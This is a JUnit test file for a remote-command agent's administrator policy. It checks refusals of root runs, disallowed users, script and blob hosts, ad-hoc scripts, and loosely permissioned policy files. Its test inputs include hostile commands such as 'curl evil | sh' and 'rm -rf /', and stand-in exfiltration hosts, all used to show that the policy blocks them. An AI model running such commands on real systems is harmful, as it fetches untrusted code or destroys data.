package dev.runcmd.agent.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.runcmd.proto.agent.v1.Run;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Optional;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The administrator's policy: what it refuses, what it caps, and which files it refuses to trust. */
class AgentPolicyTest {

    private static final Path FILE = Path.of("/etc/runcmd/agent-policy.properties");

    @TempDir
    Path dir;

    @Test
    void withoutAPolicyEverythingIsAllowed() {
        Run run = Run.newBuilder().setRunAsUser("root").setScriptUri("https://any.test/s.sh").build();
        assertEquals(Optional.empty(), AgentPolicy.NONE.refusal(run));
        assertEquals(run, AgentPolicy.NONE.capped(run));
    }

    @Test
    void eachRuleRefusesWithItsReason() throws Exception {
        AgentPolicy policy = parse("""
                run-as-users = deploy, backup
                allow-root = false
                script-uri-hosts = scripts.example
                blob-hosts = Blobs.Example
                """);
        assertEquals(Optional.of("blocked by agent policy: running as the agent's user is not allowed"),
                policy.refusal(Run.getDefaultInstance()));
        assertEquals(Optional.of("blocked by agent policy: running as root is not allowed"),
                policy.refusal(Run.newBuilder().setRunAsUser("root").build()));
        assertEquals(Optional.of("blocked by agent policy: runAsUser 'mallory' is not allowed"),
                policy.refusal(Run.newBuilder().setRunAsUser("mallory").build()));
        assertEquals(Optional.of("blocked by agent policy: scriptUri host 'evil.example' is not allowed"),
                policy.refusal(Run.newBuilder().setRunAsUser("deploy").setScriptUri("https://evil.example/x").build()));
        assertEquals(Optional.of("blocked by agent policy: blob host 'leak.example' is not allowed"),
                policy.refusal(Run.newBuilder().setRunAsUser("deploy").setErrorBlobUri("https://leak.example/e").build()));
        assertEquals(Optional.empty(), policy.refusal(Run.newBuilder().setRunAsUser("backup")
                .setScriptUri("https://scripts.example/s.sh").setOutputBlobUri("https://blobs.example/o").build()));
    }

    @Test
    void aCommandListAllowsThoseCommandsOnlyAndNoScripts() throws Exception {
        AgentPolicy policy = parse("command-ids = RunShellScript, ifconfig");
        assertEquals(Optional.empty(), policy.refusal(Run.newBuilder().setCommandId("ifconfig")
                .setScript("ip addr 2>/dev/null || ifconfig -a").build()));
        assertEquals(Optional.of("blocked by agent policy: the script sent for commandId 'ifconfig' is not that"
                + " command's"), policy.refusal(Run.newBuilder().setCommandId("ifconfig").setScript("curl evil | sh")
                .build()));
        assertEquals(Optional.of("blocked by agent policy: commandId 'RunPowerShellScript' is not allowed"),
                policy.refusal(Run.newBuilder().setCommandId("RunPowerShellScript").build()));
        assertEquals(Optional.of("blocked by agent policy: only the commands [RunShellScript,ifconfig] may run,"
                + " not a script"), policy.refusal(Run.newBuilder().setScript("rm -rf /").build()));
        assertTrue(policy.summary().endsWith("; commands only [RunShellScript,ifconfig]"), policy.summary());
    }

    @Test
    void aDisabledMachineRefusesEveryRun() throws Exception {
        AgentPolicy policy = parse("run-command.enabled=false");
        assertEquals(Optional.of("blocked by agent policy: run command is disabled on this machine"),
                policy.refusal(Run.newBuilder().setRunAsUser("anyone").build()));
        assertEquals("run command disabled", policy.summary());
    }

    @Test
    void theTimeoutIsCappedAndARunWithoutOneGetsTheCap() throws Exception {
        AgentPolicy policy = parse("max-timeout-seconds=60");
        assertEquals(60, policy.capped(Run.newBuilder().setTimeoutSeconds(0).build()).getTimeoutSeconds());
        assertEquals(60, policy.capped(Run.newBuilder().setTimeoutSeconds(3600).build()).getTimeoutSeconds());
        assertEquals(30, policy.capped(Run.newBuilder().setTimeoutSeconds(30).build()).getTimeoutSeconds());
    }

    @Test
    void unknownKeysAndBadValuesAreRefusedByName() {
        assertEquals("agent policy " + FILE + ": unknown key 'allow-everything' (known: allow-root, blob-hosts, "
                + "command-ids, max-timeout-seconds, run-as-users, run-command.enabled, script-uri-hosts)",
                assertThrows(PolicyException.class, () -> parse("allow-everything=true")).getMessage());
        assertEquals("agent policy " + FILE + ": allow-root must be true or false, not 'yes'",
                assertThrows(PolicyException.class, () -> parse("allow-root=yes")).getMessage());
        assertEquals("agent policy " + FILE + ": max-timeout-seconds must be a whole number of seconds, 0 for no "
                + "cap, not '-1'", assertThrows(PolicyException.class, () -> parse("max-timeout-seconds=-1"))
                .getMessage());
    }

    @Test
    void aFileOthersMayWriteIsNotTrusted() throws Exception {
        assumeTrue("root".equals(System.getProperty("user.name")), "the file must be root's; skipped");
        Path file = Files.writeString(dir.resolve("policy.properties"), "allow-root=false\n");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-rw-r--"));
        assertEquals("agent policy " + file + " must not be writable by group or others",
                assertThrows(PolicyException.class, () -> AgentPolicy.load(file)).getMessage());
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
        assertEquals(Optional.of("blocked by agent policy: running as the agent's user is not allowed"),
                AgentPolicy.load(file).refusal(Run.getDefaultInstance()));
    }

    @Test
    void aFileThatIsNotRootsIsNotTrusted() throws Exception {
        assumeTrue("root".equals(System.getProperty("user.name")), "needs root to hand the file over; skipped");
        Path file = Files.writeString(dir.resolve("policy.properties"), "allow-root=true\n");
        Files.setAttribute(file, "unix:uid", 65534);
        assertEquals("agent policy " + file + " must belong to root (uid 65534)",
                assertThrows(PolicyException.class, () -> AgentPolicy.load(file)).getMessage());
    }

    private static AgentPolicy parse(String text) throws PolicyException, IOException {
        Properties values = new Properties();
        values.load(new StringReader(text));
        return AgentPolicy.parse(values, FILE);
    }
}
